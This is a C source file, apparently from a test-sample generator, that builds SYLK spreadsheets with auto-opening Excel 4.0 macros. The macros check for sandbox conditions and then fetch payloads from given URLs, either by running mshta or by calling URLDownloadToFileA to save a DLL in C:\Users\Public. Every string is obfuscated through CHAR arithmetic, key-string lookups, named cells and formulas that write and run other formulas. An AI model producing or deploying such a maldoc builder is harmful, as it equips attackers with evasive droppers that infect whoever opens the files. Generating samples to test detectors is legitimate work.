/* xlm.c - workbooks as symbolic links (SYLK) with Excel 4.0 macros that ask for URLs: texts made of
 * characters by number, of cells, of a key text; formulas that are written by formulas. */
#include "samples_internal.h"

#include <stdio.h>

#define ROWS_MAX  9000u
#define DEPTH_MAX 3

struct sheet {
    struct chance *chance;
    struct hn_buf *out;
    uint32_t row;    /* of the macro, in column 1 */
    uint32_t stored; /* cells that hold something, in column 5 */
    uint32_t names;
};

static void hide_text(struct sheet *s, struct hn_buf *out, struct hn_text text, int depth);

/* A field of a record: its semicolons are doubled. */
static void add_field(struct hn_buf *out, struct hn_text text)
{
    for (size_t i = 0; i < text.len; i++) {
        if (text.ptr[i] == ';')
            hn_buf_add_char(out, ';');
        hn_buf_add_char(out, text.ptr[i]);
    }
}

static void add_literal(struct hn_buf *out, struct hn_text text)
{
    hn_buf_add_char(out, '"');
    for (size_t i = 0; i < text.len; i++) {
        if (text.ptr[i] == '"')
            hn_buf_add_char(out, '"');
        hn_buf_add_char(out, text.ptr[i]);
    }
    hn_buf_add_char(out, '"');
}

/* The next cell of the macro; gives its row. */
static uint32_t add_formula(struct sheet *s, const struct hn_buf *formula)
{
    uint32_t row = s->row;

    hn_buf_addf(s->out, "C;X1;Y%u;K0;E", row);
    add_field(s->out, hn_buf_text(formula));
    hn_buf_add_lit(s->out, "\r\n");
    s->row += 1 + chance_next(s->chance, 3);
    return row;
}

/* A cell beside the macro; gives its row. */
static uint32_t store(struct sheet *s, struct hn_text value)
{
    s->stored++;
    hn_buf_addf(s->out, "C;X5;Y%u;K", s->stored);
    add_field(s->out, value);
    hn_buf_add_lit(s->out, "\r\n");
    return s->stored;
}

static uint32_t store_number(struct sheet *s, uint32_t number)
{
    char digits[16];
    int len = snprintf(digits, sizeof digits, "%u", number);

    return store(s, hn_text_of(digits, len > 0 ? (size_t)len : 0));
}

/* ---- Ways to hide a text ---- */

static void by_characters(struct sheet *s, struct hn_buf *out, struct hn_text text)
{
    for (size_t i = 0; i < text.len; i++) {
        uint32_t c = (uint8_t)text.ptr[i];
        uint32_t key = 1 + chance_next(s->chance, 90);

        if (i > 0)
            hn_buf_add_char(out, '&');
        switch (chance_next(s->chance, 4)) {
        case 0:
            hn_buf_addf(out, "CHAR(%u)", c);
            break;
        case 1:
            hn_buf_addf(out, "CHAR(%u-%u)", c + key, key);
            break;
        case 2:
            hn_buf_addf(out, "CHAR(%u/%u)", c * key, key);
            break;
        default:
            hn_buf_addf(out, "CHAR(R%uC5-%u)", store_number(s, c + key), key);
            break;
        }
    }
}

static void by_key(struct sheet *s, struct hn_buf *out, struct hn_text text)
{
    static const char letters[] =
            "qWx4:yZ/k.0aGb-_TcP5d%eR?fg=h1iV9jlM&2mn\\oD7pBrsC3tuvHw6 8EzAFIJKLNOQSUXY@";
    struct hn_text all = { letters, sizeof letters - 1 };
    struct hn_buf value = { 0 };
    uint32_t row;

    add_literal(&value, all);
    row = store(s, hn_buf_text(&value));
    hn_buf_deinit(&value);
    for (size_t i = 0; i < text.len; i++) {
        size_t at = hn_text_find_char(all, text.ptr[i], 0);

        if (i > 0)
            hn_buf_add_char(out, '&');
        if (at == SIZE_MAX)
            hn_buf_addf(out, "CHAR(%u)", (unsigned)(uint8_t)text.ptr[i]);
        else
            hn_buf_addf(out, "MID(R%uC5,%zu,1)", row, at + 1);
    }
}

/* A cell or a name that the macro fills before. */
static void by_cell(struct sheet *s, struct hn_buf *out, struct hn_text text, int depth)
{
    struct hn_buf formula = { 0 };
    bool named = chance_next(s->chance, 2) == 0;
    uint32_t name = s->names++;
    uint32_t row;

    if (named)
        hn_buf_addf(&formula, "SET.NAME(\"part_%u\",", name);
    hide_text(s, &formula, text, depth);
    if (named)
        hn_buf_add_char(&formula, ')');
    row = add_formula(s, &formula);
    hn_buf_deinit(&formula);
    if (named)
        hn_buf_addf(out, "part_%u", name);
    else
        hn_buf_addf(out, "R%uC1", row);
}

static void hide_text(struct sheet *s, struct hn_buf *out, struct hn_text text, int depth)
{
    size_t half = text.len / 2;

    if (text.len < 2 || depth >= DEPTH_MAX || chance_next(s->chance, 4) == 0) {
        if (depth > 0 && chance_next(s->chance, 4) == 0)
            add_literal(out, text);
        else
            (chance_next(s->chance, 2) == 0 ? by_characters : by_key)(s, out, text);
        return;
    }
    if (chance_next(s->chance, 2) == 0) {
        by_cell(s, out, text, depth + 1);
        return;
    }
    hn_buf_add_lit(out, "CONCATENATE(");
    hide_text(s, out, hn_text_sub(text, 0, half), depth + 1);
    hn_buf_add_char(out, ',');
    hide_text(s, out, hn_text_sub(text, half, SIZE_MAX), depth + 1);
    hn_buf_add_char(out, ')');
}

/* ---- The macro ---- */

/* The formula stands there, or FORMULA() writes it into a later cell, where it is run. */
static void add_act(struct sheet *s, const struct hn_buf *formula)
{
    struct hn_buf whole = { 0 };
    struct hn_buf writing = { 0 };
    uint32_t row = ROWS_MAX + 2 * s->names++;

    if (chance_next(s->chance, 2) == 0) {
        (void)add_formula(s, formula);
        return;
    }
    hn_buf_add_char(&whole, '=');
    hn_buf_add_text(&whole, hn_buf_text(formula));
    hn_buf_add_lit(&writing, "FORMULA(");
    hide_text(s, &writing, hn_buf_text(&whole), 0);
    hn_buf_addf(&writing, ",R%uC3)", row);
    (void)add_formula(s, &writing);
    hn_buf_reset(&writing);
    hn_buf_addf(&writing, "FORMULA(\"=RETURN()\",R%uC3)", row + 1);
    (void)add_formula(s, &writing);
    hn_buf_reset(&writing);
    hn_buf_addf(&writing, "RUN(R%uC3)", row);
    (void)add_formula(s, &writing);
    hn_buf_deinit(&writing);
    hn_buf_deinit(&whole);
}

static void download(struct sheet *s, const char *url)
{
    struct hn_buf formula = { 0 };
    char command[160];

    if (chance_next(s->chance, 3) == 0) {
        (void)snprintf(command, sizeof command, "mshta %s", url);
        hn_buf_add_lit(&formula, "EXEC(");
        hide_text(s, &formula, hn_text_cstr(command), 0);
        hn_buf_add_char(&formula, ')');
    } else {
        hn_buf_add_lit(&formula, "CALL(");
        hide_text(s, &formula, HN_TEXT("urlmon"), 1);
        hn_buf_add_char(&formula, ',');
        hide_text(s, &formula, HN_TEXT("URLDownloadToFileA"), 1);
        hn_buf_add_lit(&formula, ",\"JJCCJJ\",0,");
        hide_text(s, &formula, hn_text_cstr(url), 0);
        hn_buf_add_lit(&formula, ",\"C:\\Users\\Public\\a.dll\",0,0)");
    }
    add_act(s, &formula);
    hn_buf_deinit(&formula);
}

static void ask_machine(struct sheet *s)
{
    static const char *const questions[] = { "IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)",
        "IF(GET.WORKSPACE(19),,CLOSE(TRUE))", "IF(GET.WINDOW(7),HALT(),)",
        "IF(ISNUMBER(SEARCH(\"Windows\",GET.WORKSPACE(1))),,CLOSE(TRUE))" };
    struct hn_buf formula = { 0 };

    hn_buf_add_cstr(&formula, questions[chance_next(s->chance, HN_COUNT_OF(questions))]);
    (void)add_formula(s, &formula);
    hn_buf_deinit(&formula);
}

void make_workbook(struct chance *chance, struct hn_buf *out)
{
    static const char *const starts[] = { "Auto_open", "auto_open", "Auto_Open_1", "AUTO_OPEN" };
    struct sheet s = { .chance = chance, .out = out, .row = 1 + chance_next(chance, 90) };
    struct hn_buf end = { 0 };

    hn_buf_addf(out,
            "ID;PWXL;N;E\r\nP;PGeneral\r\nO;L;D;V;K47;G100 0.001;E\r\nNN;N%s;ER%uC1;KOpen;F\r\n",
            starts[chance_next(chance, HN_COUNT_OF(starts))], s.row);
    for (size_t i = 0; i < chance->sample->url_count; i++) {
        if (chance_next(chance, 3) == 0)
            ask_machine(&s);
        download(&s, chance->sample->urls[i]);
    }
    hn_buf_add_lit(&end, "HALT()");
    (void)add_formula(&s, &end);
    hn_buf_add_lit(out, "E\r\n");
    hn_buf_deinit(&end);
}
